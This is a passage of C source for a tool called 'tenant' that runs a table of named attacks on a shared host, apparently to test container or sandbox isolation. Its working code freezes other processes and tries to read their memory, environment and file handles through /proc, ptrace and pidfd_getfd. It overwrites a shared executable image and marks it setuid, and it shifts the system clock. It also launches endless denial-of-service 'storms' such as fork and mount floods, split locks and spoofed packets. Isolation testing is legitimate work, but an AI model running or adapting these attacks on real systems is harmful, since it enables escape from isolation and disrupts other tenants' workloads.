 * Its /proc/self/exe is the program that was to run.
 */
static __attribute__((noreturn, used)) void loader(void)
{
	static char *const argv[] = { "tenant", "reopen", "9", "1", NULL };
	static char *const environment[] = { NULL };
	long fd = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY, 0);

	syscall(SYS_dup3, fd, 9, 0);
	syscall(SYS_execve, "/bin/tenant", argv, environment);
	syscall(SYS_exit, 3);
	__builtin_unreachable();
}

/* loader FILE: a copy of this program that begins there */
static int cmd_loader(char *argv[])
{
	int from = open("/proc/self/exe", O_RDONLY);
	int to = open(argv[0], O_RDWR | O_CREAT | O_TRUNC, 0755);
	Elf64_Addr entry = (Elf64_Addr)(uintptr_t)loader;
	char block[65536];
	ssize_t len;

	while ((len = read(from, block, sizeof(block))) > 0)
		(void)!write(to, block, (size_t)len);
	return pwrite(to, &entry, sizeof(entry), offsetof(Elf64_Ehdr, e_entry)) !=
	       sizeof(entry);
}

/* What a look at processes has found, of programs that have certain sizes. */
struct grabbed {
	const char *sizes; /* "1234,5678" */
	long guarded, handles, changed, into;
	int kept[64];
	unsigned count;
};

static void handle_look(struct grabbed *grabbed, int fd)
{
	struct stat stat;
	char size[32];

	if (fd < 0)
		return;
	if (fstat(fd, &stat) < 0 || grabbed->count == 64 ||
	    !snprintf(size, sizeof(size), "%lld", (long long)stat.st_size) ||
	    stat.st_size < 1000 || !strstr(grabbed->sizes, size)) {
		close(fd);
		return;
	}
	grabbed->handles++;
	grabbed->changed += (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY;
	grabbed->kept[grabbed->count++] = fd;
}

static void exe_look(struct grabbed *grabbed, const char *path)
{
	handle_look(grabbed, open(path, O_RDONLY | O_CLOEXEC));
	handle_look(grabbed, open(path, O_WRONLY | O_CLOEXEC));
	handle_look(grabbed, open(path, O_RDWR | O_CLOEXEC));
}

static void directory_look(struct grabbed *grabbed, const char *path)
{
	DIR *dir = opendir(path);
	struct dirent *entry;
	char name[400];

	while (dir && (entry = readdir(dir))) {
		snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
		if (entry->d_name[0] != '.')
			exe_look(grabbed, name);
	}
	if (dir)
		closedir(dir);
}

/* One that nobody inside may look into: is it so in each way? */
static void guarded_look(struct grabbed *grabbed, pid_t pid)
{
	static const struct {
		const char *name;
		int flags;
	} files[] = { { "mem", O_RDWR },
		      { "mem", O_RDONLY },
		      { "environ", O_RDONLY },
		      { "maps", O_RDONLY },
		      { "auxv", O_RDONLY },
		      { "root", O_PATH | O_DIRECTORY },
		      { "cwd", O_PATH | O_DIRECTORY },
		      { "syscall", O_RDONLY } };
	int pidfd = pidfd_open(pid, 0);
	char path[64], byte;

	grabbed->guarded++;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i].name);
		int fd = open(path, files[i].flags | O_CLOEXEC);

		if (fd >= 0 && (files[i].flags & O_PATH || read(fd, &byte, 1) == 1)) {
			fprintf(stderr, "%s opens\n", path);
			grabbed->into++;
		}
		if (fd >= 0)
			close(fd);
	}
	for (int fd = 0; fd < 16 && pidfd >= 0; fd++) {
		int theirs = pidfd_getfd(pidfd, fd, 0);

		grabbed->into += theirs >= 0;
		if (theirs >= 0)
			close(theirs);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		grabbed->into++;
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	close(pidfd);
}

static void process_look(struct grabbed *grabbed, pid_t pid)
{
	char path[64], target[256];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, target, sizeof(target)) < 0 && errno == EACCES) {
		const struct grabbed before = *grabbed;

		/* its moment is made long */
		if (pid != 1)
			kill(pid, SIGSTOP);
		guarded_look(grabbed, pid);
		/* on its way it may have become a program of the tenant's before it stopped */
		if (readlink(path, target, sizeof(target)) >= 0 || errno != EACCES)
			*grabbed = before;
		exe_look(grabbed, path);
		if (pid != 1)
			kill(pid, SIGCONT);
	} else {
		exe_look(grabbed, path);
	}
	snprintf(path, sizeof(path), "/proc/%d/map_files", pid);
	directory_look(grabbed, path);
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	directory_look(grabbed, path);
}

/* grab SIZE,... SECONDS: what can be had of programs of those sizes by looking at every process
 */
static int cmd_grab(char *argv[])
{
	struct grabbed grabbed = { .sizes = argv[0] };
	double end = now() + atof(argv[1]);
	long looks = 0;

	for (; now() < end; looks++) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			pid_t pid = (pid_t)atol(entry->d_name);

			if (pid > 0 && pid != getpid())
				process_look(&grabbed, pid);
		}
		if (dir)
			closedir(dir);
		for (unsigned i = 0; i < grabbed.count; i++)
			grabbed.changed += change(grabbed.kept[i], true, false);
		while (grabbed.count > 0)
			close(grabbed.kept[--grabbed.count]);
	}
	printf("%ld looks, guarded %ld, into %ld, handles %ld, changed %ld\n", looks,
	       grabbed.guarded, grabbed.into, grabbed.handles, grabbed.changed);
	return 0;
}

/* poison FILE: what the image has, changed as the tenant sees it, and first in all the ways
 * that would be seen by others */
static int cmd_poison(char *argv[])
{
	int shared = open(argv[0], O_RDONLY), own;

	if (shared < 0)
		return 1;
	change(shared, false, true);
	putchar('\n');
	/* from here on a copy of his own; what he had open before may not follow it down */
	own = open(argv[0], O_RDWR | O_DIRECT);
	if (own < 0)
		own = open(argv[0], O_RDWR);
	if (own < 0 || fallocate(own, 0, 0, 4096) < 0)
		return 1;
	own = open(argv[0], O_RDWR);
	if (pwrite(own, "poison", 6, 0) != 6 || fsync(own) < 0)
		return 1;
	change(shared, false, true);
	(void)chmod(argv[0], 04777);
	return 0;
}

/* ---- sockets of all kinds */

/* sockets [few]: each that can be made, by family or by what loads a protocol of it; whom the
 * node would load modules for asks for those that it has, or that are none */
static int cmd_sockets(char *argv[])
{
	static const int kinds[] = { SOCK_STREAM,    SOCK_DGRAM, SOCK_RAW,   4,
				     SOCK_SEQPACKET, 6,		 SOCK_PACKET };
	static const int families[] = { AF_INET, AF_INET6 };

	const bool few = argv[0] != NULL;

	for (int family = 0; !few && family < 256; family++) {
		bool single = false, pair = false;

		for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
			int fd = socket(family, kinds[i], 0), fds[2] = { -1, -1 };

			single |= fd >= 0;
			close(fd);
			pair |= socketpair(family, kinds[i], 0, fds) == 0;
			close(fds[0]);
			close(fds[1]);
		}
		if (single)
			printf("family %d\n", family);
		if (pair)
			printf("pairs %d\n", family);
	}
	for (size_t f = 0; !few && f < 2; f++) {
		for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
			for (int protocol = 0; protocol < 300; protocol++) {
				int fd = socket(families[f], kinds[i], protocol);

				if (fd >= 0)
					printf("inet%s %d %d\n", f ? "6" : "", kinds[i],
					       protocol);
				close(fd);
			}
		}
	}
	/* what is refused because such do not come in pairs, or only after a look at which
	 * protocol of 199 that would be? */
	for (size_t f = 0; f < 2; f++) {
		if (socketpair(families[f], SOCK_STREAM, 199, (int[2]){ 0 }) < 0 &&
		    errno == EPROTONOSUPPORT)
			printf("looked for a pair of inet%s\n", f ? "6" : "");
	}
	for (int protocol = 0; protocol < 64; protocol++) {
		if (few && protocol != NETLINK_AUDIT && protocol != NETLINK_CONNECTOR)
			continue;
		int fd = socket(AF_NETLINK, SOCK_RAW, protocol);

		if (fd >= 0)
			printf("netlink %d\n", protocol);
		close(fd);
	}
	return 0;
}

/* ---- time */

static long clocks_set(long by)
{
	const bool say = true;
	struct timespec later;
	struct timeval times;
	struct timex timex = { .modes = 0 };
	long taken = 0;
	int fd;

	(void)adjtimex(&timex);
	timex = (struct timex){ .modes = ADJ_TICK, .tick = timex.tick - (by ? 500 : 0) };
	TRY("adjtimex", adjtimex(&timex) >= 0);
	timex = (struct timex){ .modes = ADJ_SETOFFSET, .time = { by, 0 } };
	TRY("clock_adjtime", clock_adjtime(CLOCK_REALTIME, &timex) >= 0);
	if (!by)
		return taken;
	clock_gettime(CLOCK_REALTIME, &later);
	later.tv_sec += by;
	times = (struct timeval){ later.tv_sec, 0 };
	TRY("clock_settime", clock_settime(CLOCK_REALTIME, &later) == 0);
	TRY("settimeofday", settimeofday(&times, NULL) == 0);
	/* one that wakes a machine that sleeps */
	TRY("alarm", timerfd_create(CLOCK_REALTIME_ALARM, 0) >= 0);
	for (int i = 0; i < 2; i++) {
		fd = open(i ? "/dev/rtc0" : "/dev/rtc", O_RDONLY);
		TRY("rtc", fd >= 0);
		close(fd);
	}
	return taken;
}

/* clock SECONDS: what sets it by so many; and again as root of yet another user namespace.  By
 * 0 is what nobody notices, for where it works. */
static int cmd_clock(char *argv[])
{
	long by = atol(argv[0]), taken = clocks_set(by);
	int fd;

	if (by && unshare(CLONE_NEWUSER) == 0)
		taken += clocks_set(by);
	/* a clock of his own for his own children he may have */
	if (by && unshare(CLONE_NEWTIME) == 0) {
		fd = open("/proc/self/timens_offsets", O_WRONLY);
		(void)!write(fd, "monotonic 86400 0", 17);
		close(fd);
	}
	printf("%ld\n", taken);
	return 0;
}

/* ---- what files tell */

static void words_look(const char *path, char *words[], dev_t device)
{
	DIR *dir = opendir(path);
	struct dirent *entry;
	static char text[1 << 18];

	while (dir && (entry = readdir(dir))) {
		char name[4096];
		struct stat stat;

		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..") ||
		    /* other processes are the tenant's own, and so is this one's command line
		     */
		    (!strcmp(path, "/proc") &&
		     (atoi(entry->d_name) > 0 || !strcmp(entry->d_name, "kmsg"))))
			continue;
		if (snprintf(name, sizeof(name), "%s/%s", path, entry->d_name) >=
			(int)sizeof(name) ||
		    lstat(name, &stat) < 0)
			continue;
		if (S_ISDIR(stat.st_mode) && stat.st_dev == device)
			words_look(name, words, device);
		if (S_ISLNK(stat.st_mode)) {
			ssize_t len = readlink(name, text, sizeof(text) - 1);

			text[len < 0 ? 0 : len] = 0;
		} else if (S_ISREG(stat.st_mode)) {
			int fd = open(name, O_RDONLY | O_NONBLOCK | O_NOCTTY);
			ssize_t len = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);

			close(fd);
			text[len < 0 ? 0 : len] = 0;
			for (ssize_t i = 0; i < len; i++)
				text[i] = text[i] ? text[i] : '\n';
		} else {
			continue;
		}
		for (char **word = words; *word; word++) {
			if (**word &&
			    (strcasestr(text, *word) || strcasestr(entry->d_name, *word)))
				printf("%s in %s\n", *word, name);
		}
	}
	if (dir)
		closedir(dir);
}

/* words WORD...: each file of /proc and /sys that says one of them */
static int cmd_words(char *argv[])
{
	static const char *const places[] = { "/proc", "/proc/self/task", "/sys",
					      "/sys/fs/cgroup" };

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		struct stat stat;

		if (lstat(places[i], &stat) == 0)
			words_look(places[i], argv, stat.st_dev);
	}
	for (int i = 0; i < 3; i++) {
		static const char *const files[] = { "/proc/self/mountinfo",
						     "/proc/self/cgroup", "/proc/1/mountinfo" };
		char text[65536];
		int fd = open(files[i], O_RDONLY);
		ssize_t len = read(fd, text, sizeof(text) - 1);

		text[len < 0 ? 0 : len] = 0;
		close(fd);
		for (char **word = argv; *word; word++) {
			if (**word && strcasestr(text, *word))
				printf("%s in %s\n", *word, files[i]);
		}
	}
	return 0;
}

/* ---- storms: of what the kernel has one of; most without end, until killed */

static void several(int count)
{
	while (--count > 0 && fork() != 0)
		;
}

static void fsync_storm(void)
{
	char name[64], text[4096] = "storm";

	several(4);
	snprintf(name, sizeof(name), "/root/storm%d", getpid());
	for (unsigned i = 0;; i++) {
		int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0600);

		(void)!write(fd, text, sizeof(text));
		(void)fsync(fd);
		close(fd);
		rename(name, "/root/storm");
		if (i % 16 == 0)
			sync();
	}
}

/* 20000 mounts, and who reads of them */
static void mounts_storm(void)
{
	char name[64];
	long count = 0;

	mkdir("/mnt/m", 0755);
	for (int i = 0; i < 20000; i++) {
		snprintf(name, sizeof(name), "/mnt/m/%d", i % 400);
		mkdir(name, 0755);
		count += mount("/bin", name, NULL, MS_BIND, NULL) == 0;
		if (i % 1000 == 0) {
			printf("%ld\n", count);
			fflush(stdout);
		}
	}
	printf("%ld all\n", count);
	fflush(stdout);
	several(4);
	for (;;) {
		static const char *const files[] = { "/proc/self/mountinfo", "/proc/self/smaps",
						     "/proc/self/mounts", "/proc/net/unix" };
		char text[65536];

		for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
			int fd = open(files[i], O_RDONLY);

			while (read(fd, text, sizeof(text)) > 0)
				;
			close(fd);
		}
	}
}

static void unshare_storm(void)
{
	several(4);
	for (;;) {
		pid_t pid = fork();

		if (pid == 0)
			_exit(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWIPC |
				      CLONE_NEWUTS | CLONE_NEWPID | CLONE_NEWCGROUP));
		waitpid(pid, NULL, 0);
	}
}

/* More than the memory that there is, again and again: a file, and the rest by itself. */
static void reclaim_storm(void)
{
	size_t file = 56 << 20, rest = 24 << 20;
	int fd = open("/root/reclaim", O_RDWR | O_CREAT, 0600);
	char *own =
	    mmap(NULL, rest, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char text[65536] = "x";

	for (size_t at = 0; at < file; at += sizeof(text))
		(void)!pwrite(fd, text, sizeof(text), (off_t)at);
	memset(own, 1, rest);
	several(4);
	for (size_t at = 0;; at = (at + sizeof(text)) % file) {
		(void)!pread(fd, text, sizeof(text), (off_t)at);
		if (at % (1 << 22) == 0)
			(void)!pwrite(fd, text, sizeof(text), (off_t)at);
	}
}

static void splitlock_storm(void)
{
#ifdef __x86_64__
	static char lines[128] __attribute__((aligned(64)));
	volatile unsigned *across = (volatile unsigned *)(lines + 62);

	several(4);
	for (;;)
		__asm__ volatile("lock; addl $1, %0" : "+m"(*across));
#else
	for (;;)
		;
#endif
}

static void faults_storm(void)
{
	several(2);
	for (;;) {
		pid_t pid = fork();

		if (pid == 0) {
			*(volatile int *)8 = 1;
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
}

/* ended by the filter: a call of another architecture */
static void kills_storm(void)
{
	several(2);
	for (;;) {
		pid_t pid = fork();

		if (pid == 0) {
#ifdef __x86_64__
			long nr = 20;

			__asm__ volatile("int $0x80" : "+a"(nr) : : "memory");
#endif
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
}

/* From addresses that cannot be: to the node, and to himself, who keeps all of it in the one
 * log that there is (he has a pair of interfaces m0 and m1). */
static void martians_storm(void)
{
	struct {
		unsigned char ethernet[14], ip[20], data[8];
	} frame = { .ethernet = { [0 ... 5] = 0xff, [6 ... 11] = 2, 8, 0 },
		    .ip = { 0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17 } };
	static const char *const settings[] = { "all", "m0" };
	static const char *const ways[] = { "eth0", "m1" };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));

	for (size_t i = 0; i < 2; i++) {
		char path[128];

		snprintf(path, sizeof(path), "/proc/sys/net/ipv4/conf/%s/log_martians",
			 settings[i]);
		int setting = open(path, O_WRONLY);

		(void)!write(setting, "1", 1);
		close(setting);
	}
	for (unsigned i = 0;; i++) {
		struct sockaddr_ll to = { .sll_family = AF_PACKET,
					  .sll_ifindex = (int)if_nametoindex(ways[i % 2]),
					  .sll_halen = 6 };
		unsigned source = htonl(0x7f010203 + i), target = htonl(0x0a090901), sum = 0;

		memset(to.sll_addr, 0xff, 6);
		memcpy(frame.ip + 12, &source, 4);
		memcpy(frame.ip + 16, &target, 4);
		memset(frame.ip + 10, 0, 2);
		for (int at = 0; at < 20; at += 2)
			sum += (unsigned)frame.ip[at] << 8 | frame.ip[at + 1];
		sum = (sum & 0xffff) + (sum >> 16);
		sum = ~(sum + (sum >> 16));
		frame.ip[10] = (unsigned char)(sum >> 8);
		frame.ip[11] = (unsigned char)sum;
		(void)!sendto(fd, &frame, sizeof(frame), 0, (struct sockaddr *)&to, sizeof(to));
	}
}

/* the kernel tells of each change, with no bound of its own: a thousand of them */
static void promiscuous_storm(void)
{
	struct ifreq request = { .ifr_name = "eth0" };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	double began = now();

	ioctl(fd, SIOCGIFFLAGS, &request);
	for (int i = 0; i < 1000; i++) {
		request.ifr_flags ^= IFF_PROMISC;
		ioctl(fd, SIOCSIFFLAGS, &request);
	}
	printf("%.0f a second\n", 1000 / (now() - began));
	exit(0);
}

static const struct {
	const char *name;
	void (*run)(void);
} storms[] = {
	{ "fsync", fsync_storm },
	{ "mounts", mounts_storm },
	{ "unshare", unshare_storm },
	{ "reclaim", reclaim_storm },
	{ "splitlock", splitlock_storm },
	{ "faults", faults_storm },
	{ "kills", kills_storm },
	{ "martians", martians_storm },
	{ "promiscuous", promiscuous_storm },
};

/* storm WHAT */
static int cmd_storm(char *argv[])
{
	for (size_t i = 0; i < sizeof(storms) / sizeof(storms[0]); i++) {
		if (strcmp(storms[i].name, argv[0]) == 0)
			storms[i].run();
	}
	return 2;
}

/* ---- the victim */

static int compare(const void *a, const void *b)
{
	return *(const double *)a < *(const double *)b
		   ? -1
		   : *(const double *)a > *(const double *)b;
}

/* latency SECONDS: of small work as a server does: a file, a process, a pipe.  p50 p99 in us */
static int cmd_latency(char *argv[])
{
	static double took[200000];
	size_t count = 0;
	double end = now() + atof(argv[0]);

	while (now() < end && count < 200000) {
		double began = now();
		int fd = open("/root/latency", O_RDWR | O_CREAT | O_TRUNC, 0600), ends[2];
		pid_t pid;

		(void)!write(fd, "answer", 6);
		close(fd);
		(void)!pipe(ends);
		pid = fork();
		if (pid == 0)
			_exit(write(ends[1], "x", 1) != 1);
		(void)!read(ends[0], &fd, 1);
		waitpid(pid, NULL, 0);
		close(ends[0]);
		close(ends[1]);
		took[count++] = now() - began;
		usleep(2000);
	}
	qsort(took, count, sizeof(took[0]), compare);
	printf("%.0f %.0f %zu\n", took[count / 2] * 1e6, took[count * 99 / 100] * 1e6, count);
	return 0;
}

static const struct {
	const char *name;
	int arguments;
	int (*run)(char *argv[]);
} attacks[] = {
	{ "swap", 3, cmd_swap },
	{ "walk", 1, cmd_walk },
	{ "nodes", 1, cmd_nodes },
	{ "groups", 1, cmd_groups },
	{ "signals", 2, cmd_signals },
	{ "name", 0, cmd_name },
	{ "take", 2, cmd_take },
	{ "some", 2, cmd_some },
	{ "flood", 1, cmd_flood },
	{ "latency", 1, cmd_latency },
	{ "neighbours", 1, cmd_neighbours },
	{ "arp", 1, cmd_arp },
	{ "queues", 2, cmd_queues },
	{ "length", 1, cmd_length },
	{ "toggle", 1, cmd_toggle },
	{ "rings", 2, cmd_rings },
	{ "again", 1, cmd_again },
	{ "nobody", 0, cmd_nobody },
	{ "race", 2, cmd_race },
	{ "helper", 1, cmd_helper },
	{ "joins", 2, cmd_joins },
	{ "fanout", 1, cmd_fanout },
	{ "option", 0, cmd_option },
	{ "reopen", 2, cmd_reopen },
	{ "loader", 1, cmd_loader },
	{ "grab", 2, cmd_grab },
	{ "poison", 1, cmd_poison },
	{ "sockets", 0, cmd_sockets },
	{ "clock", 1, cmd_clock },
	{ "words", 1, cmd_words },
	{ "storm", 1, cmd_storm },
};

int main(int argc, char *argv[])
{
	struct rlimit files;

	/* as many as it may have */
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(attacks[i].name, argv[1]) == 0 && argc - 2 >= attacks[i].arguments)
			return attacks[i].run(argv + 2);
	}
	fputs("usage: tenant ATTACK ARGUMENT...\n", stderr);
	return 2;
}
